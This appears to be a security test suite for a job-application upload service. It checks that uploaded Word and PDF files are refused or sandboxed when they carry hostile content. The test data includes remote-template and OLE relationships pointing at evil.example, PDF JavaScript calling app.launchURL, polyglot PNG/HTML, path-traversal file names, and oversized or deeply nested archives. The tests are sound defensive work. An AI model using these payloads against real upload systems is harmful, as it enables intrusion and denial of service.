import { writeClient } from '@jobbuddies/shared'
import { createHash } from 'node:crypto'
import { once } from 'node:events'
import { readdirSync, readFileSync, statSync } from 'node:fs'
import { createServer, type AddressInfo, connect } from 'node:net'
import { dirname, join } from 'node:path'
import { text } from 'node:stream/consumers'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { docx, type Part, pdf } from '../../support/documents.ts'
import type { Held } from '../../support/drafts.ts'
import { rest } from '../../support/rest.ts'
import { createStaff } from '../../support/scenario.ts'
import { siteSecret } from '../../support/site.ts'
import { uploading } from '../../support/uploads.ts'
import { useHost } from '../../support/useHost.ts'
import { eventually } from '../../support/waiting.ts'

const on = useHost({ options: { files: { patience: { piece: 400, whole: 1_500 } } } })
const { period, begin, upload, send, stored, arriving } = uploading(() => on.host)
let periodId: string
let held: Held

/** Whoever fetches anything because of a file is heard here. */
let heard = 0
const trap = createServer((socket) => {
  heard += 1
  socket.destroy()
})
beforeAll(async () => {
  trap.listen(0, '127.0.0.1')
  await once(trap, 'listening')
  periodId = (await period()).id
  held = await begin(periodId)
})
afterAll(() => trap.close())
const trapUrl = () => `http://127.0.0.1:${(trap.address() as AddressInfo).port}`

async function seconds(work: () => Promise<unknown>): Promise<number> {
  const before = process.cpuUsage()
  await work()
  const { user, system } = process.cpuUsage(before)
  return (user + system) / 1_000_000
}
const relation = (type: string, target: string, quote = '"') =>
  `<Relationship Id=${quote}a${quote} Type=${quote}http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}${quote} Target=${quote}${target}${quote} TargetMode=${quote}External${quote}/>`
const relations = (...of: string[]): Part => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<?xml version="1.0"?><Relationships>${of.join('')}</Relationships>`,
})

describe('What a document would have Word fetch', () => {
  it.each([
    ['a template on the web', 'attachedTemplate', () => `${trapUrl()}/t.dotm`],
    ['a template on somebody’s server', 'attachedTemplate', () => '\\\\evil.example\\share\\t.dotm'],
    ['a template on a server by its address', 'attachedTemplate', () => 'file://evil.example/t.dotm'],
    ['an object on the web', 'oleObject', () => `${trapUrl()}/o.bin`],
    ['a frame', 'frame', () => `${trapUrl()}/f.html`],
    ['a part on the web', 'subDocument', () => `${trapUrl()}/s.docx`],
  ])('has it refused: %s', async (_, type, target) => {
    for (const quote of ['"', "'"]) {
      const bytes = docx(relations(relation(type, target(), quote)))
      expect((await upload(await begin(periodId), bytes)).body).toMatchObject({ code: 'file_unsafe' })
    }
    expect(heard).toBe(0)
  })
  it('is none of these in what people write: links, and where their template lies', async () => {
    const bytes = docx(
      relations(
        relation('hyperlink', 'https://www.linkedin.example/in/aino'),
        relation('hyperlink', 'mailto:aino@example.org'),
        relation(
          'attachedTemplate',
          'file:///C:\\Users\\Aino\\AppData\\Roaming\\Microsoft\\Templates\\CV.dotx',
        ),
      ),
    )
    expect((await upload(await begin(periodId), bytes)).body).toMatchObject({ kind: 'docx' })
    expect(heard).toBe(0)
  })
})

describe('What a file carries inside', () => {
  it('that would run in a PDF is kept as it was sent, and only ever an attachment in a sandbox', async () => {
    const staff = await createStaff(on.host)
    const person = await begin(periodId)
    const bytes = pdf({
      inside: `2 0 obj<</S/JavaScript/JS(app.launchURL("${trapUrl()}"))>>endobj <script>1</script>`,
    })
    const { id } = (await upload(person, bytes)).body as { id: string }
    expect((await send(person, periodId, { cv: id })).status).toBe(201)
    const answer = await rest(on.host, 'GET', `/editor/files/${id}`, { token: staff.coordinator.token })
    expect(answer.text).toBe(bytes.toString())
    expect(answer.headers).toMatchObject({
      'content-disposition': expect.stringMatching(/^attachment;/) as string,
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'",
    })
    expect(heard).toBe(0)
  })
  it('costs nothing, however much it is: objects, pictures, documents in documents', async () => {
    const objects = pdf({ inside: '1 0 obj\n'.repeat(800_000) })
    const picture = pdf({ inside: '3 0 obj<</Subtype/Image/Width 100000/Height 100000>>stream\n' })
    const nested = docx({
      name: 'word/embeddings/a.docx',
      content: docx({ name: 'word/a.bin', content: Buffer.alloc(9e6) }),
    })
    for (const bytes of [objects, picture, nested])
      expect(
        await seconds(async () => expect((await upload(await begin(periodId), bytes)).status).toBe(201)),
      ).toBeLessThan(2)
  })
  it('is refused at once when it has a hundred thousand parts', async () => {
    const parts = Array.from({ length: 100_000 }, (_, part) => ({
      name: `a${part}`,
      content: '',
      stored: true,
    }))
    const bytes = docx(...parts).subarray(0, 7 * 1024 * 1024)
    const spent = await seconds(async () =>
      expect([413, 422]).toContain((await upload(await begin(periodId), bytes)).status),
    )
    expect(spent).toBeLessThan(2)
  })
  it('is refused when a picture has a page behind it, whatever picture it is', async () => {
    const png = Buffer.concat([
      Buffer.from('89504e470d0a1a0a', 'hex'),
      Buffer.from('<html><script>1</script>'),
    ])
    expect((await upload(held, png)).body).toMatchObject({ code: 'file_type' })
  })
})

/** Every file below a folder with what is in it. */
const treeOf = (folder: string): string[] =>
  (readdirSync(folder, { recursive: true }) as string[])
    .filter((name) => statSync(join(folder, name)).isFile())
    .map(
      (name) =>
        `${name} ${createHash('sha256')
          .update(readFileSync(join(folder, name)))
          .digest('hex')}`,
    )
    .sort()

describe('A sender who lies', () => {
  it('about the length leaves nothing behind', async () => {
    const before = stored()
    const { hostname, port } = new URL(on.host.api.url)
    const path = `/api/v1/uploads?draft=${held.id}&question=cv`
    const said = async (length: number, bytes: Buffer) => {
      const socket = connect(Number(port), hostname)
      const lines = [`Content-Length: ${length}`, 'Connection: close']
      const head = [`POST ${path} HTTP/1.1`, 'Host: x', `Authorization: Bearer ${held.secret}`, ...lines]
      socket.write(`${head.join('\r\n')}\r\n\r\n`)
      socket.write(bytes)
      return (await text(socket)).split('\r\n', 1)[0]
    }
    // More than comes: it is waited for in vain. Less than comes: the rest is none of the file's.
    expect(await said(5_000, pdf({ bytes: 1_000 }))).toMatch(/ 408 /)
    expect(await said(100, pdf({ bytes: 1_000 }))).toMatch(/ (?:400|422) /)
    await eventually(() => arriving() === 0)
    expect(stored()).toEqual(before)
  })
  it('about the name writes nowhere but in the folder of files', async () => {
    const around = dirname(on.host.filesDir)
    const outside = () => treeOf(around).filter((line) => !join(around, line).startsWith(on.host.filesDir))
    const before = outside()
    for (const name of [
      '../../x.pdf',
      '/tmp/x.pdf',
      '..\\..\\x.pdf',
      '.',
      '..',
      'a\u0000b',
      'link -> /etc/passwd',
    ])
      expect((await upload(await begin(periodId), pdf(), { name })).status).toBe(201)
    expect(outside()).toEqual(before)
  })
  it('from one network is told to wait, and leaves no more than before', async () => {
    const client = await writeClient({ secret: siteSecret, address: '81.2.3.4', at: Date.now() })
    const headers = { 'x-jobbuddies-client': client }
    expect((await upload(await begin(periodId), pdf(), { headers })).status).toBe(201)
    await on.database.query(`update rate_limits set count = 300 where key = 'upload:81.2.3.4'`)
    const before = stored()
    const answer = await upload(await begin(periodId), pdf(), { headers })
    expect(answer).toMatchObject({ status: 429, body: { code: 'too_many_requests' } })
    expect(Number(answer.headers['retry-after'])).toBeGreaterThan(0)
    expect(stored()).toEqual(before)
    // Everybody else goes on.
    expect((await upload(await begin(periodId), pdf())).status).toBe(201)
  })
})
